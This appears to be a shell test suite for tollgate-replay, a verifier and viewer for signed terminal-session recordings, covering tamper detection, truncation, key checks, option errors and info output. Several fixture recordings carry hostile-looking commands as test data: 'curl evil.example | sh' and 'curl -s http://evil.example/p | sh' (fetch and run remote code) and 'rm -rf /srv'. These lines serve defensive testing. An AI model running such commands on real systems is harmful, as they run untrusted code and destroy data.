#!/bin/sh
# tollgate-replay end to end on recordings made with the writer API
# (tests/tg-rec-gen): exit codes of verify for intact, tampered, truncated,
# unsealed and wrong-key recordings; info; cat (with the unsealed gate);
# search offsets against known output; list; export played by asciinema.
. "${TG_TOP_SRCDIR:-$(dirname "$0")/..}/tests/lib.sh"
set -u

R="$TG_TOP_BUILDDIR/session_recorder/tollgate-replay"
G="$TG_TOP_BUILDDIR/tests/tg-rec-gen"
DATA="$TG_TOP_SRCDIR/tests/data"
[ -x "$R" ] && [ -x "$G" ] || tg_fail "build tollgate-replay and tests/tg-rec-gen first"
T=$(tg_mktemp_dir)
trap 'rm -rf "$T"' EXIT
cd "$T" || exit 99
mkdir k other
"$G" keygen k || tg_fail keygen
"$G" keygen other || tg_fail keygen
cat >conf <<CONF
[recorder]
public_key = $T/k/signing.pub
CONF
chmod 600 conf
SID=00112233445566778899aabbccddeeff
"$G" script k/signing.key good.tgr session=$SID <"$DATA/replay-session.txt" || tg_fail "make good.tgr"
# unsealed: the recorder died after a checkpoint (no seal; a tail after it)
sed -n '2,/^checkpoint 3300000/p' "$DATA/replay-session.txt" >crash.txt
printf 'out 4000000 after the last checkpoint\r\n\nflush\ncrash\n' >>crash.txt
"$G" script k/signing.key unsealed.tgr session=$SID <crash.txt || tg_fail "make unsealed.tgr"
size=$(stat -c %s good.tgr)

expect() { # expect CODE COMMAND...: run, check the exit status
	want=$1; shift
	"$@" >out.txt 2>err.txt
	got=$?
	[ "$got" -eq "$want" ] || { cat out.txt err.txt; tg_fail "$* exited $got, expected $want"; }
}
# finds PATTERN FILE LINE WHAT: search PATTERN in FILE finds a line of out.txt that matches
# the basic regular expression LINE; else the test fails, saying WHAT was missed
finds() {
	expect 0 "$R" -c conf search "$1" "$2"
	grep -q "$3" out.txt || tg_fail "search: $4: $(cat out.txt)"
}

# How the work of search grows with its input is judged by the instructions it runs, which
# valgrind (callgrind) counts alike on a loaded machine and an idle one, not by a clock.
# grows WHAT MAX PATTERN SMALL BIG: search PATTERN in the recording made from the script BIG (SMALL
# with the one dimension under test changed, as doubled) runs under MAX/10 times the
# instructions it runs in SMALL's. Each runs natively first, exit status 0.
grows() {
	what=$1 max=$2 pat=$3
	shift 3
	for f in "$@"; do
		"$G" script k/signing.key "$f.tgr" session=$SID $GROWS_GEN <"$f" || tg_fail "make $f.tgr"
		expect 0 "$R" -c conf search "$pat" "$f.tgr"
	done
	if ! command -v valgrind >/dev/null; then
		echo "skipped: $what (valgrind is not installed to count instructions)"
		return 0
	fi
	a=$(valgrind --tool=callgrind --callgrind-out-file=/dev/null "$R" -c conf search "$pat" "$1.tgr" \
		2>&1 >/dev/null | sed -n 's/^==[0-9]*== Collected : *\([0-9][0-9]*\)$/\1/p')
	b=$(valgrind --tool=callgrind --callgrind-out-file=/dev/null "$R" -c conf search "$pat" "$2.tgr" \
		2>&1 >/dev/null | sed -n 's/^==[0-9]*== Collected : *\([0-9][0-9]*\)$/\1/p')
	[ -n "$a" ] && [ -n "$b" ] || tg_fail "$what: valgrind counted no instructions"
	[ $((b * 10)) -lt $((a * max)) ] ||
		tg_fail "$what: $b instructions against $a, more than $((max / 10)).$((max % 10)) times"
	echo "ok: $what: $b instructions against $a"
	rm -f "$1" "$2" "$1.tgr" "$2.tgr"
}

# --- verify: exit codes
expect 0 "$R" -c conf verify good.tgr
grep -q "sealed and intact" out.txt || tg_fail "verify good: $(cat out.txt)"
expect 0 "$R" -c conf --key k/signing.pub verify good.tgr
# options may also follow the command and its arguments
expect 0 "$R" verify good.tgr -c conf --key k/signing.pub
expect 1 "$R" verify -c conf good.tgr --key other/signing.pub
expect 1 "$R" -c conf --key other/signing.pub verify good.tgr
grep -q "SIGNED BY ANOTHER KEY: at record 1, .*signed by host key" out.txt || tg_fail "wrong key: $(cat out.txt)"
expect 0 "$R" --no-key -c conf verify good.tgr
grep -q "host key NOT checked" out.txt || tg_fail "--no-key not said: $(cat out.txt)"
# a genuine recording put in another session's place (named, as the recorder and the
# uploader's keys name them, for another session id): intact, but MISPLACED, exit 1
mkdir misplaced
cp good.tgr misplaced/ffeeddccbbaa99887766554433221100.tgr
expect 1 "$R" -c conf verify misplaced/ffeeddccbbaa99887766554433221100.tgr
grep -q "^misplaced/ffeeddccbbaa99887766554433221100.tgr: sealed and intact" out.txt &&
	grep -q "MISPLACED: its name says session ffeeddccbbaa99887766554433221100, but it is the recording of session $SID" out.txt ||
	tg_fail "misplaced: $(cat out.txt)"
# its own name, and a name that is no session id, are not questioned
cp good.tgr misplaced/$SID.tgr
expect 0 "$R" -c conf verify misplaced/$SID.tgr
expect 0 "$R" -c conf verify good.tgr
grep -q MISPLACED out.txt && tg_fail "a name that is no session id questioned: $(cat out.txt)"
# in a folder, the one misplaced makes the run's exit 1
expect 1 "$R" -c conf verify misplaced
[ "$(grep -c MISPLACED out.txt)" -eq 1 ] || tg_fail "misplaced folder: $(cat out.txt)"
rm -r misplaced
# one byte changed in the middle of the output
cp good.tgr tampered.tgr
off=$(grep -abo 'hunter2' good.tgr | head -1 | cut -d: -f1)
printf 'X' | dd of=tampered.tgr bs=1 seek=$((off + 5)) conv=notrunc 2>/dev/null
expect 1 "$R" -c conf verify tampered.tgr
# --no-key is said on every result, a tampered one's too
expect 1 "$R" -c conf --no-key verify tampered.tgr
grep -q "TAMPERED: .*(host key NOT checked: --no-key)$" out.txt ||
	tg_fail "--no-key not said on a tampered result: $(cat out.txt)"
grep -q "TAMPERED: at record [0-9]*, byte [0-9]*, session time 0:00:03.300: hash chain broken" out.txt ||
	tg_fail "tampered: where? $(cat out.txt)"
# truncated: cut in the middle of the last records
head -c $((size - 200)) good.tgr >truncated.tgr
expect 2 "$R" -c conf verify truncated.tgr
grep -q "UNSEALED: intact up to session time 0:00:03.300" out.txt || tg_fail "truncated: $(cat out.txt)"
grep -q "cannot be verified" out.txt || tg_fail "truncated: no unverified count"
expect 2 "$R" -c conf verify unsealed.tgr
# appended junk after the seal
cp good.tgr appended.tgr
printf 'x' >>appended.tgr
expect 1 "$R" -c conf verify appended.tgr
# not a recording at all, and hostile bytes: an error, never a crash
head -c 5000 /dev/urandom >random.tgr
expect 1 "$R" -c conf verify random.tgr
printf 'TGREC\000\001\n\020\000\377\377\377\377\377\377\377\377\377\377\001' >hostile.tgr
expect 1 "$R" -c conf verify hostile.tgr
# ... which say where: a malformed header is record 1 (records count from 1), at byte 8 after
# the magic; a file without the magic has no record to name
grep -q "^hostile.tgr: TAMPERED: at record 1, byte 8, session time 0:00:00.000: record 1 at byte 8: " out.txt ||
	tg_fail "verify hostile: where? $(cat out.txt)"
expect 1 "$R" -c conf verify random.tgr
grep -q "^random.tgr: TAMPERED: at byte 0, session time 0:00:00.000: not a recording" out.txt ||
	tg_fail "verify random: where? $(cat out.txt)"
: >empty.tgr
expect 2 "$R" -c conf verify empty.tgr
# ... and the commands that show a recording give the verdict verify gives, not an I/O
# error: one cut inside its header is unsealed with nothing verified (nothing to show), one
# whose header is malformed tampered (nothing to show, even with --force)
head -c 100 good.tgr >headcut.tgr
# ... whose bytes, all unverifiable, are counted as such
expect 2 "$R" -c conf verify headcut.tgr
grep -q "^headcut.tgr: UNSEALED: .*, byte 0; 100 bytes after that cannot be verified (the input ends inside the header: nothing verified)$" out.txt ||
	tg_fail "verify headcut.tgr: $(cat out.txt)"
for f in empty.tgr headcut.tgr; do
	expect 2 "$R" -c conf cat "$f"
	[ ! -s out.txt ] || tg_fail "cat $f: $(cat out.txt)"
	expect 2 "$R" -c conf --force cat "$f"
	expect 2 "$R" -c conf play "$f"
	expect 2 "$R" -c conf export --format asciicast "$f"
	expect 2 "$R" -c conf search 'x' good.tgr "$f"
done
# info --json gives a script the verdict of such a recording too, as JSON, with no header
for f in headcut.tgr:unsealed:2 random.tgr:tampered:1; do
	expect "${f##*:}" "$R" -c conf info --json "${f%%:*}"
	python3 - out.txt "$(echo "$f" | cut -d: -f2)" "${f##*:}" <<'PY' || tg_fail "info --json ${f%%:*}: $(cat out.txt err.txt)"
import json, sys
j = json.load(open(sys.argv[1]))
assert j["header"] is None and j["verification"]["status"] == sys.argv[2]
assert j["verification"]["exit"] == int(sys.argv[3]) and j["verification"]["verified_bytes"] == 0
PY
done
# a whole header with no checkpoint after it is no more verified: the writer puts the first
# checkpoint in the same write, and the host key's certificate covers the session key, not the
# user, host or command, so whoever may write the spool could make one up (here: user bob, a
# command never run); info and list must not show its fields as the session's
python3 - good.tgr hdronly.tgr <<'PY' || tg_fail "make hdronly.tgr"
import sys
d = open(sys.argv[1], "rb").read()
p, n, s = 10, 0, 0  # the magic, the HEADER's type and dt (0); then its length
while True:
    b = d[p]; p += 1; n |= (b & 0x7f) << s; s += 7
    if not b & 0x80:
        break
h = d[p:p + n].replace(b'"user":"alice"', b'"user":"bobby"').replace(b'"command":null', b'"command":"rm -rf /srv"')
assert len(h) != n or h != d[p:p + n]
def varint(x):
    o = b""
    while x >= 0x80:
        o += bytes([x & 0x7f | 0x80]); x >>= 7
    return o + bytes([x])
open(sys.argv[2], "wb").write(d[:10] + varint(len(h)) + h)
PY
expect 2 "$R" -c conf verify hdronly.tgr
expect 2 "$R" -c conf info hdronly.tgr
! grep -q "bobby\|rm -rf" out.txt err.txt || tg_fail "info of an unverified header: $(cat out.txt err.txt)"
grep -q "nothing verified" err.txt || tg_fail "info of an unverified header: $(cat err.txt)"
expect 2 "$R" -c conf info --json hdronly.tgr
python3 - out.txt <<'PY' || tg_fail "info --json of an unverified header: $(cat out.txt err.txt)"
import json, sys
j = json.load(open(sys.argv[1]))
assert j["header"] is None and j["verification"]["status"] == "unsealed", j["header"]
assert j["verification"]["verified_bytes"] == 0
PY
mkdir -p hdrspool/sessions
cp hdronly.tgr hdrspool/sessions/
expect 2 "$R" -c conf list hdrspool
! grep -q "bobby" out.txt || tg_fail "list of an unverified header: $(cat out.txt)"
grep -q "UNSEALED .*hdronly.tgr" out.txt || tg_fail "list of an unverified header: $(cat out.txt)"
# nor export, whose asciicast header a player shows as the session's (title, timestamp, size):
# no field of it, with or without --force; the file still says what verified
for force in "" --force; do
	expect 2 "$R" -c conf $force export --format asciicast hdronly.tgr
	! grep -q "bobby\|rm -rf\|xterm\|start_us" out.txt ||
		tg_fail "export $force of an unverified header: $(cat out.txt)"
	python3 - out.txt <<'PY' || tg_fail "export $force of an unverified header: $(cat out.txt err.txt)"
import json, sys
h = json.loads(open(sys.argv[1]).readline())
assert h["version"] == 2 and "title" not in h and "timestamp" not in h and "env" not in h, h
assert h["tollgate"]["header"] is None and h["tollgate"]["verification"] == "UNSEALED", h
assert h["tollgate"]["verified"]["bytes"] == 0, h
PY
	grep -q "no checkpoint covers its header" err.txt ||
		tg_fail "export $force of an unverified header: $(cat err.txt)"
	# play and cat say nothing of the header either (the banner names the file only)
	for cmd in cat play; do
		expect 2 "$R" -c conf $force $cmd hdronly.tgr
		! grep -q "bobby\|rm -rf" out.txt err.txt ||
			tg_fail "$cmd $force of an unverified header: $(cat out.txt err.txt)"
	done
done
expect 1 "$R" -c conf --force cat random.tgr
expect 1 "$R" -c conf --force search 'x' hostile.tgr
# a recording in a newer format version (its byte and its header's version) is not read, and
# not called tampered either: it says which version it is, and every command exits 3 (an
# error, not a verdict)
python3 -c 'import sys
d = bytearray(open("good.tgr", "rb").read())
d[6] = 2
i = d.index(b"\"version\":1")
d[i + 10] = ord("2")
open("newer.tgr", "wb").write(d)'
expect 3 "$R" -c conf verify newer.tgr
[ "$(cat out.txt)" = "newer.tgr: error: unsupported format version 2 (this tollgate-replay reads up to 1): not verified" ] ||
	tg_fail "verify newer: $(cat out.txt)"
for cmd in info "info --json" cat "search x" "export --format asciicast" play; do
	# shellcheck disable=SC2086 # cmd holds several words
	expect 3 "$R" -c conf $cmd newer.tgr
	grep -q "newer.tgr: .*unsupported format version 2 (this tollgate-replay reads up to 1)" err.txt ||
		tg_fail "$cmd newer: $(cat err.txt)"
	if grep -q TAMPERED out.txt err.txt; then tg_fail "$cmd newer: called tampered"; fi
done
# but this format's file with the version byte alone changed is tampered, not "not verified"
cp good.tgr bumped.tgr
printf '\002' | dd of=bumped.tgr bs=1 seek=6 conv=notrunc 2>/dev/null
expect 1 "$R" -c conf verify bumped.tgr
grep -q "TAMPERED" out.txt || tg_fail "verify: a version byte changed over a version 1 header not found tampered: $(cat out.txt)"
# and a version before the first there is (0) is no format: that file was changed
cp good.tgr older.tgr
printf '\000' | dd of=older.tgr bs=1 seek=6 conv=notrunc 2>/dev/null
expect 1 "$R" -c conf verify older.tgr
grep -q "^older.tgr: TAMPERED" out.txt || tg_fail "verify older: $(cat out.txt)"
mkdir newer && cp newer.tgr good.tgr newer/
expect 3 "$R" -c conf list newer
grep -q " ERROR .*newer/newer.tgr$" out.txt || tg_fail "list newer: $(cat out.txt)"
grep -q "newer.tgr: unsupported format version 2" err.txt || tg_fail "list newer: $(cat err.txt)"
# a verdict that could not be written is no verdict: an I/O error, as info's and list's
if [ -w /dev/full ]; then
	"$R" -c conf verify good.tgr >/dev/full 2>err.txt
	got=$?
	[ "$got" -eq 3 ] || tg_fail "verify to a full disk exited $got, expected 3"
	grep -q "stdout" err.txt || tg_fail "verify to a full disk: not said: $(cat err.txt)"
	# every command says so, naming stdout, not the recording (whose read went well), with
	# output that fails at the end (flushed) or midway (more than a stdio buffer)
	awk 'BEGIN { for (i = 0; i < 100; i++) printf "out %d %01000d\\r\\n\n", i * 1000, i
		print "seal 200000 {}" }' >big.txt
	"$G" script k/signing.key big.tgr <big.txt || tg_fail "make big.tgr"
	mkdir full && cp good.tgr full/
	for f in good.tgr big.tgr; do
		for cmd in cat "export --format asciicast" "export --raw --format asciicast" "search ." \
			info "info --json" "list full"; do
			[ "$cmd" = "list full" ] && [ "$f" = big.tgr ] && continue
			# shellcheck disable=SC2086 # cmd holds several words
			"$R" -c conf $cmd $( [ "$cmd" = "list full" ] || echo "$f") >/dev/full 2>err.txt
			got=$?
			[ "$got" -eq 3 ] || tg_fail "$cmd $f to a full disk exited $got, expected 3"
			grep -q "^tollgate-replay: stdout: write failed$" err.txt ||
				tg_fail "$cmd $f to a full disk: not said: $(cat err.txt)"
			if grep -q "$f: system error\|could not make" err.txt; then
				tg_fail "$cmd $f to a full disk: blames $f: $(cat err.txt)"
			fi
		done
	done
fi
# several files: the worst wins (3, then 1, then 2)
expect 2 "$R" -c conf verify good.tgr unsealed.tgr
expect 1 "$R" -c conf verify good.tgr unsealed.tgr tampered.tgr
expect 3 "$R" -c conf verify good.tgr missing.tgr tampered.tgr
# usage errors
# a missing argument is one line that names it and points at --help, not the whole usage
one_line() { # one_line WANT: err.txt is one line, matching WANT
	[ "$(wc -l <err.txt)" -eq 1 ] && grep -q -e "$1" err.txt ||
		tg_fail "not one line /$1/: $(cat err.txt)"
}
expect 3 "$R" -c conf verify
one_line "^tollgate-replay: verify: missing FILE\.\.\. (usage: verify FILE\.\.\.; see tollgate-replay --help)$"
expect 3 "$R" -c conf search x
one_line "^tollgate-replay: search: missing FILE\.\.\. (usage: search \[--force\] \[--input\] REGEX FILE\.\.\.; see tollgate-replay --help)$"
expect 3 "$R" -c conf search
one_line "search: missing REGEX FILE\.\.\. (usage: search \[--force\] \[--input\] REGEX FILE\.\.\.; "
expect 3 "$R" -c conf info --json
one_line "info: missing FILE (usage: info \[--json\] FILE; see tollgate-replay --help)$"
expect 3 "$R" -c conf list
one_line "list: missing SPOOLDIR|s3://bucket/prefix (usage: list SPOOLDIR|s3://bucket/prefix; "
expect 3 "$R" -c conf
one_line "^tollgate-replay: missing COMMAND (see tollgate-replay --help)$"
# an unknown command or a bad option: one line that names it and points at --help, not the
# whole usage after it
expect 3 "$R" -c conf frobnicate good.tgr
one_line "^tollgate-replay: unknown command 'frobnicate' (commands: verify, info, play, cat, search, export, list; see tollgate-replay --help)$"
expect 3 "$R" -c conf verify --bogus good.tgr
one_line "^tollgate-replay: unknown option '--bogus' (see tollgate-replay --help)$"
expect 3 "$R" --bogus=1 -c conf verify good.tgr
one_line "^tollgate-replay: unknown option '--bogus' (see tollgate-replay --help)$"
expect 3 "$R" -c conf verify -x good.tgr
one_line "^tollgate-replay: unknown option '-x' (see tollgate-replay --help)$"
expect 3 "$R" -c conf --no-key -xf verify good.tgr
one_line "^tollgate-replay: unknown option '-x' (see tollgate-replay --help)$"
expect 3 "$R" -c conf info --json=yes good.tgr
one_line "^tollgate-replay: option '--json' takes no value (see tollgate-replay --help)$"
expect 3 "$R" -c conf play good.tgr --speed
one_line "^tollgate-replay: option '--speed' needs a value (see tollgate-replay --help)$"
expect 3 "$R" -c conf play good.tgr -s
one_line "^tollgate-replay: option '-s' needs a value (see tollgate-replay --help)$"
expect 3 "$R" -c conf cat --i good.tgr
one_line "^tollgate-replay: option '--i' is ambiguous (--input, --idle-limit; see tollgate-replay --help)$"
expect 3 "$R" -c conf --speed 0 play good.tgr
# the message names the range it enforces: 0.0005 is "more than 0", and still refused
expect 3 "$R" -c conf --idle-limit 0.0005 play good.tgr
grep -q -e "--idle-limit: seconds, from 0.001 to 31536000" err.txt || tg_fail "--idle-limit 0.0005: $(cat err.txt)"
expect 3 "$R" -c conf --key /nonexistent verify good.tgr
expect 3 "$R" -c /nonexistent/tollgate.conf verify good.tgr
expect 0 "$R" --help
grep -q "Exit status" out.txt || tg_fail "--help"

# --- which command takes which option: those its line of the man page's SYNOPSIS lists, and
# -c, -k and --no-key, which every command takes (its [options]); any other has no meaning
# for it and is refused, on one line that says which commands it applies to
mkdir onlygood && cp good.tgr onlygood/
sed -e 's/\\-/-/g' -e 's/\\f[BIRP]//g' "$TG_TOP_SRCDIR/man/tollgate-replay.1" |
	awk '/^\.SH SYNOPSIS/ { on = 1; next } /^\.SH/ { on = 0 } on' |
	awk '/^\.br/ { print b; b = ""; next } { sub(/^\.[A-Z]+ /, ""); b = b " " $0 } END { print b }' |
	sed 's/^ *tollgate-replay \[ options \] //' >synopsis
longs=$(sed -n '/struct option/,/{NULL/p' "$TG_TOP_SRCDIR/session_recorder/replay_main.c" |
	grep -o '{"[a-z-]*"' | tr -d '{"')
[ "$(wc -l <synopsis)" -ge 7 ] && [ -n "$longs" ] || tg_fail "no SYNOPSIS or options: $(cat synopsis)"
while read -r cmd rest; do
	case $cmd in # arguments that make each command succeed on good.tgr
	play) args="--idle-limit 0.001 good.tgr" ;;
	search) args="x good.tgr" ;;
	export) args="--format asciicast good.tgr" ;;
	list) args="onlygood" ;;
	*) args="good.tgr" ;;
	esac
	for o in $longs; do
		case $o in
		help | version) continue ;;
		config) v=conf ;; key) v=k/signing.pub ;; speed) v=64 ;; idle-limit) v=0.001 ;;
		from) v=1 ;; to) v=2 ;; format) v=asciicast ;; *) v= ;;
		esac
		# shellcheck disable=SC2086 # $v and $args are words
		case " config key no-key $(echo "$rest" | grep -o -e '--[a-z-]*' | tr '\n' ' ')" in
		*" $o "* | *" --$o "*)
			expect 0 "$R" -c conf "$cmd" "--$o" $v $args ;;
		*)
			expect 3 "$R" -c conf "$cmd" "--$o" $v $args
			one_line "^tollgate-replay: $cmd: --$o applies to [a-z, ]* only (see tollgate-replay --help)$" ;;
		esac
	done
done <synopsis
# as written, before the command or after it, and before its value is looked at
expect 3 "$R" -c conf cat --json good.tgr
one_line "^tollgate-replay: cat: --json applies to info only (see tollgate-replay --help)$"
expect 3 "$R" -c conf --no-key -f info good.tgr
one_line "^tollgate-replay: info: -f applies to play, cat, search and export only (see tollgate-replay --help)$"
expect 3 "$R" -c conf --input list onlygood
one_line "^tollgate-replay: list: --input applies to cat and search only (see tollgate-replay --help)$"
expect 3 "$R" -c conf verify -s 0 good.tgr
one_line "^tollgate-replay: verify: -s applies to play only (see tollgate-replay --help)$"
expect 3 "$R" -c conf --speed 0 search x good.tgr
one_line "^tollgate-replay: search: --speed applies to play only (see tollgate-replay --help)$"
expect 3 "$R" -c conf verify --ra good.tgr
one_line "^tollgate-replay: verify: --raw applies to play, cat and export only (see tollgate-replay --help)$"

# --- info: header, end, input, transfer metadata, verification
expect 0 "$R" -c conf info good.tgr
for want in "session: *$SID" "user: *alice (uid 1000)" "client: *203.0.113.5 port 51234" \
	"terminal: *xterm-256color 80x24" \
	"duration: *1:02:03.600" "exit status: *0" "transfer: .*scp -t /tmp.*upload" \
	"hidden input: *9 bytes" "bytes stored: *out [0-9]*, err 0, in 3" "resizes: *1 (last 132x43)" \
	"notes: .*transfer" "verification: .*sealed and intact" "final hash: *[0-9a-f]\{64\}" \
	"host key id: *[0-9a-f]* (the given host key)"; do
	grep -q "$want" out.txt || { cat out.txt; tg_fail "info lacks /$want/"; }
done
# a session key whose certificate does not verify, under the given key's id: not said to be
# the given host key's, and none of the header it would vouch for shown as the session's
python3 -c 'import re
d = open("good.tgr", "rb").read()
m = re.search(rb"\"session_key_sig\":\"([0-9a-f])", d)
c = b"0" if m.group(1) != b"0" else b"1"
open("badcert.tgr", "wb").write(d[:m.start(1)] + c + d[m.end(1):])'
expect 1 "$R" -c conf info badcert.tgr
! grep -q "^user:" out.txt && grep -q "TAMPERED: at record 1, .*certificate does not verify" err.txt &&
	grep -q "nothing verified" err.txt ||
	tg_fail "info of a certificate that does not verify: $(cat out.txt err.txt)"
rm -f badcert.tgr
# doc/investigate.md shows info's output for such a session: the same lines, in the same
# order, as info prints for one, so that the walk-through does not drift from the program
printf '%s\n' 'note 0 {"event":"start","entry":"forcecommand","shell":"/bin/bash"}' \
	'out 100000 $ sudo -i\r\n' 'hidden 1500000 9' 'in 3000000 ls\r' 'resize 3100000 120 40' \
	'checkpoint 3200000' 'seal 3723600000 {"end_us":1795919723600000,"duration_us":3723600000,"exit_status":0,"signal":null,"reason":"exit","bytes":{"out":10,"err":0,"in":12},"stored":{"out":10,"err":0,"in":3},"resizes_dropped":0,"transfer":null}' |
	"$G" script k/signing.key doc.tgr session=$SID pam=9c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f audit=812 \
		boot=3ebcffef-914b-4445-9dc3-b5fea5a030e9 || tg_fail "make doc.tgr"
expect 0 "$R" -c conf info doc.tgr
labels='s/^\([a-z][a-z_ ]*:\) .*/\1/p'
sed -n '/^\$ tollgate-replay info doc.tgr$/,/^```$/p' "$TG_TOP_SRCDIR/doc/investigate.md" | sed -n "$labels" >doc-labels.txt
sed -n "$labels" out.txt >info-labels.txt
# what ties the recording to its login: the PAM session id, the audit session and its boot
grep -q "^pam session: *9c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f$" out.txt || tg_fail "info lacks the PAM session: $(cat out.txt)"
grep -q "^audit session: *812 (boot 3ebcffef-914b-4445-9dc3-b5fea5a030e9)$" out.txt ||
	tg_fail "info lacks the audit session and its boot: $(cat out.txt)"
[ -s doc-labels.txt ] || tg_fail "doc/investigate.md: no 'tollgate-replay info doc.tgr' example found"
diff -u doc-labels.txt info-labels.txt ||
	tg_fail "doc/investigate.md's info example has other lines than tollgate-replay info prints (above)"
expect 0 "$R" -c conf info --json good.tgr
python3 - out.txt "$SID" <<'PY' || tg_fail "info --json"
import json, sys
j = json.load(open(sys.argv[1]))
assert j["header"]["session_id"] == sys.argv[2]
assert j["end"]["transfer"]["direction"] == "upload"
assert j["verification"]["status"] == "sealed" and j["verification"]["exit"] == 0
assert j["stored"]["in"] == 3 and j["hidden_input"]["bytes"] == 9 and j["resizes"] == 1
assert j["notes"][0]["note"]["event"] == "transfer"
PY
# a command longer than the header holds (4096 bytes) is shown whole, from the note that
# carries it: what follows 4 KiB of padding is not hidden from the investigator
"$G" script k/signing.key longcmd.tgr session=$SID mode=command term= cols=0 rows=0 \
	"command=echo $(head -c 5000 /dev/zero | tr '\0' a); curl evil.example | sh" <"$DATA/replay-session.txt" ||
	tg_fail "make longcmd.tgr"
expect 0 "$R" -c conf info longcmd.tgr
grep -q "^command: *echo a*; curl evil.example | sh\$" out.txt ||
	tg_fail "info: a long command not shown whole: $(grep -a '^command' out.txt | cut -c1-40)...$(grep -a '^command' out.txt | tail -c 60)"
grep -q "^command shown: *5029 of 5029 bytes\$" out.txt || tg_fail "info: $(grep -a '^command shown' out.txt)"
# ... also when its first 4 KiB hold bytes that are not UTF-8 (each U+FFFD in the header's
# text is 3 bytes: that text is longer than the command's 4132 bytes)
bad=$(printf '\377%.0s' $(seq 40))
"$G" script k/signing.key longbad.tgr session=$SID mode=command term= cols=0 rows=0 \
	"command=echo '$bad' # $(head -c 4046 /dev/zero | tr '\0' x); curl -s http://evil.example/p | sh" \
	<"$DATA/replay-session.txt" || tg_fail "make longbad.tgr"
expect 0 "$R" -c conf info longbad.tgr
grep -q "^command shown: *4132 of 4132 bytes\$" out.txt && grep -q "^command: .*x; curl -s http://evil.example/p | sh\$" out.txt ||
	tg_fail "info: a long command with bad bytes not shown whole: $(grep -a '^command' out.txt | tail -c 80)"
# ... from a note past the verified part, it is a claim, said apart
printf 'out 1000 x\nflush\ncrash\n' |
	"$G" script k/signing.key longcut.tgr session=$SID mode=command term= cols=0 rows=0 \
		"command=echo $(head -c 5000 /dev/zero | tr '\0' a); curl evil.example | sh" ||
	tg_fail "make longcut.tgr"
expect 2 "$R" -c conf info longcut.tgr
grep -q "^command shown: *4096 of 5029 bytes; the rest is in a note past the verified part" out.txt &&
	grep -q "^UNVERIFIED: *echo a*; curl evil.example | sh\$" out.txt &&
	! grep -q "^command: .*curl" out.txt || tg_fail "info: an unverified command note: $(grep -a '^command shown' out.txt)"
# a note too long for its line is shown in part, and says so (info --json has it whole)
printf 'out 1000 x\nnote 2000 {"event":"sudo","argv":"%sEND"}\nseal 3000 {}\n' \
	"$(head -c 2000 /dev/zero | tr '\0' b)" | "$G" script k/signing.key longnote.tgr ||
	tg_fail "make longnote.tgr"
expect 0 "$R" -c conf info longnote.tgr
grep -q '^notes: *0:00:00.002 {"event":"sudo","argv":"b*\.\.\. (cut: 800 of 2029 bytes shown; info --json has it whole)$' out.txt ||
	tg_fail "info: a long note cut without a word: $(grep -a '^notes' out.txt | tail -c 100)"
expect 0 "$R" -c conf info --json longnote.tgr
grep -q 'bEND"$' out.txt || tg_fail "info --json: a long note not whole"
# notes past the first 1000 are left out of info, and it says how many, in JSON too
python3 - <<'PY' | "$G" script k/signing.key manynotes.tgr || tg_fail "make manynotes.tgr"
for i in range(1003):
    print('note %d {"event":"n%d"}' % (1000 + i, i))
print("seal 5000 {}")
PY
expect 0 "$R" -c conf info manynotes.tgr
grep -q '^ *\.\.\. and 3 more$' out.txt || tg_fail "info: notes left out not counted: $(tail -5 out.txt)"
expect 0 "$R" -c conf info --json manynotes.tgr
python3 -c 'import json, sys; j = json.load(open(sys.argv[1])); assert len(j["notes"]) == 1000 and j["notes_dropped"] == 3, j.get("notes_dropped")' out.txt ||
	tg_fail "info --json: notes left out not counted"
# ... and past 1 MiB of them, whatever their number: info holds the notes it shows in memory,
# and a hostile recording of a thousand 1 MiB notes must not take gigabytes (it is not sealed
# and intact, but info shows any recording)
python3 - <<'PY' | "$G" script k/signing.key bignotes.tgr || tg_fail "make bignotes.tgr"
for i in range(20):
    print('note %d {"event":"n%d","pad":"%s"}' % (1000 + i, i, "x" * 59970))
print("seal 5000 {}")
PY
expect 0 "$R" -c conf info --json bignotes.tgr
python3 -c 'import json, sys; j = json.load(open(sys.argv[1])); assert len(j["notes"]) == 17 and j["notes_dropped"] == 3, (len(j["notes"]), j["notes_dropped"])' out.txt ||
	tg_fail "info --json: notes kept past 1 MiB"
expect 0 "$R" -c conf info bignotes.tgr
grep -q '^ *\.\.\. and 3 more$' out.txt || tg_fail "info: notes past 1 MiB not counted: $(tail -5 out.txt | cut -c1-100)"
# a file name need not be UTF-8 (Latin-1 from a Windows share), and JSON must be: U+FFFD
cp good.tgr "$(printf 'caf\351.tgr')"
expect 0 "$R" -c conf info --json "$(printf 'caf\351.tgr')"
python3 - out.txt <<'PY' || tg_fail "info --json of a file whose name is not UTF-8: $(cat out.txt err.txt)"
import json, sys
j = json.load(open(sys.argv[1], encoding="utf-8"))
assert j["file"] == "caf\ufffd.tgr" and j["verification"]["status"] == "sealed"
PY
# a command without a pty (and with no SSH_CONNECTION): absent fields are "-", as command is
printf 'out 1000 hello\\n\nseal 2000 {"reason":"exit"}\n' >cmd.txt
"$G" script k/signing.key cmd.tgr mode=command command=ls term= cols=0 rows=0 addr= port=0 \
	<cmd.txt || tg_fail "make cmd.tgr"
expect 0 "$R" -c conf info cmd.tgr
for want in "terminal: *-$" "client: *-$" "command: *ls$"; do
	grep -q "^$want" out.txt || { cat out.txt; tg_fail "info of a command lacks /$want/"; }
done
# a command that is not UTF-8 is shown as it was run, its bytes escaped (the header's "command"
# has U+FFFD for them, its "command_b64" the bytes), not as U+FFFD, which hides which bytes
"$G" script k/signing.key cmdb.tgr mode=command "command=rm -rf /tmp/caf$(printf '\351') /x$(printf '\377\376')y" \
	term= cols=0 rows=0 <cmd.txt || tg_fail "make cmdb.tgr"
expect 0 "$R" -c conf info cmdb.tgr
grep -q '^command: *rm -rf /tmp/caf\\xe9 /x\\xff\\xfey$' out.txt ||
	tg_fail "info: a command that is not UTF-8: $(grep -a '^command' out.txt)"
expect 1 "$R" -c conf info --json tampered.tgr
grep -q '"status": "tampered"' out.txt || tg_fail "info tampered"
# a malformed recording on standard input (a file or a pipe): the verdict of the bytes read, as
# for a file; standard input was read a second time for it, found at its end, and the
# recording called cut inside its header (unsealed, exit 2)
printf 'not a recording at all, and longer than the magic\n' >notrec.tgr
expect 1 "$R" -c conf info --json notrec.tgr
grep -q '"status": "tampered"' out.txt || tg_fail "info --json of a file that is no recording: $(cat out.txt)"
expect 1 sh -c '"$1" -c conf info --json - <notrec.tgr' sh "$R"
